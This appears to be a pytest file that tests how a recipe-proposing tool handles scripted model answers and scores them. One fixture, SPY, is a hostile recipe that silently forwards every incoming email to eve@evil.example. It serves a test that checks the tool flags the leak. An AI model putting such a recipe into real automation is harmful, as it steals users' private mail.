"""Wishes that a scripted model answers: right, wrong once, wrong always, and hostile (D12)."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from narval.ask.definitions import judging
from narval.ask.definitions.judging import HomeAsRead
from narval.core.definitions.parsing import suffixes
from narval.files.home import Home
from narval.trials.propose.answer import read_answer
from narval.trials.propose.driver import Wish as Proposed
from narval.trials.propose.driver import propose
from tests.modules.chat_server import ChatServer, chat_server, streamed
from tests.wishes.score import Score, score, table
from tests.wishes.wishes import WISHES, Wish, files_of

WRONG = (
    "Certainly! Here is what you need.",
    "```python\nfrom narval import action\n@action()\ndef leak():\n    pass\n```",
    "--- file: mine.xml\n<recipe group='mine'\n--- end",
    "--- file: mine.xml\n<recipe group='mine' name='a' start_step='a' end_step='b'/>\n--- end",
)
"""Answers that are no definition, each in its way."""

SPY = """\
<recipe group="spy" name="all" start_step="listen" end_step="send" restart="yes">
  <step id="listen" type="action" target="basic.nothing"/>
  <transition id="any"><in idref="listen"/><out idref="send"/>
    <condition as="mail" use="yes"><match>email[@mailbox]</match></condition></transition>
  <step id="send" type="action" target="mail.write"><arguments>
    <draft to="eve@evil.example" subject="{$mail/@subject}">{$mail/body}</draft></arguments></step>
</recipe>
"""


@pytest.fixture(autouse=True)
def short_exploring(monkeypatch: pytest.MonkeyPatch) -> None:
    """Explore each answer for a moment alone: what is found there is tested elsewhere."""
    monkeypatch.setattr(judging, "SECONDS", 0.01)


@pytest.fixture(scope="module")
def server() -> Iterator[ChatServer]:
    with chat_server() as made:
        yield made


@pytest.fixture
def home(tmp_path: Path, server: ChatServer) -> Path:
    for folder in ("etc", "recipes", "modules", "data"):
        (tmp_path / folder).mkdir()
    text = f'[models.near]\nurl = "{server.url}"\nmodel = "tiny"\n[propose]\nmodel = "near"\n'
    (tmp_path / "etc/narval.toml").write_text(text)
    return tmp_path


def right(wish: Wish, old: str = "", new: str = "", **more: str) -> str:
    """The answer of a model that knows the example of a wish, with a change of it, and more files."""
    paths = (path for path in files_of(wish, "recipes/") if path.name.endswith(tuple(suffixes())))
    texts = {path.name: path.read_text("utf-8") for path in paths}
    texts = {name: text.replace(old, new) if old else text for name, text in texts.items()} | more
    return "".join(f"--- file: {name}\n{text}--- end\n" for name, text in texts.items())


def test_every_right_answer_is_read_and_has_no_faults(home: Path) -> None:
    """What a round does with an answer, for all wishes; the rounds themselves are gone through below."""
    read = HomeAsRead(Home(home))
    for wish in WISHES:
        answer = read_answer(right(wish))
        judgement = read.judge(answer.texts, wish.says, explores=False)
        assert judgement.is_sound, (wish.example, judgement.faults)
        assert judgement.sentences, wish.example


def test_a_wrong_answer_goes_back_and_the_right_one_is_ready(home: Path, server: ChatServer) -> None:
    for number, wish in enumerate(WISHES[::20]):
        server.will_say(streamed(WRONG[number % len(WRONG)]), streamed(right(wish)))
        about = propose(Home(home), Proposed(text=wish.says, name=wish.example)).about()
        assert (about["state"], about["rounds"]) == ("ready", 2), (wish.example, about["faults"])
        assert about["told"], wish.example


def test_what_is_always_wrong_ends_after_five_rounds_and_keeps_them(home: Path, server: ChatServer) -> None:
    for number, wish in enumerate(WISHES[::15]):
        server.will_say(streamed(WRONG[number % len(WRONG)]))
        proposal = propose(Home(home), Proposed(text=wish.says, name=wish.example))
        assert proposal.about()["state"] == "faulty"
        assert len(proposal.rounds()) == 5
        assert list((home / "recipes").iterdir()) == []


def test_what_is_sent_to_a_stranger_is_said_first(home: Path, server: ChatServer) -> None:
    for wish in WISHES[::15]:
        server.will_say(streamed(right(wish, **{"spy.xml": SPY})))
        about = propose(Home(home), Proposed(text=wish.says, name=wish.example)).about()
        assert any("eve@evil.example" in sentence for sentence in about["unnamed"]), wish.example


def test_a_model_is_scored_by_the_scenarios_of_the_wishes(home: Path, server: ChatServer) -> None:
    wishes = {wish.example: wish for wish in WISHES}
    parcel, chores, frost = wishes["parcel"], wishes["chores"], wishes["frost"]
    server.will_say(streamed(right(parcel, 'group="examples"', 'group="mine"')))
    scores = [score(home, parcel)]
    server.will_say(streamed(WRONG[0]), streamed(right(chores, "examples", "mine")))
    scores.append(score(home, chores))
    server.will_say(streamed(right(frost, *frost.wrong)))
    scores.append(score(home, frost))
    assert scores == [
        Score("parcel", "ready", 1, 1, 1),
        Score("chores", "ready", 2, 1, 1),
        Score("frost", "ready", 1, 0, 1),
    ]
    assert table(scores) == "valid at once: 2 of 3\nvalid after rounds: 3\nall scenarios passed: 2"
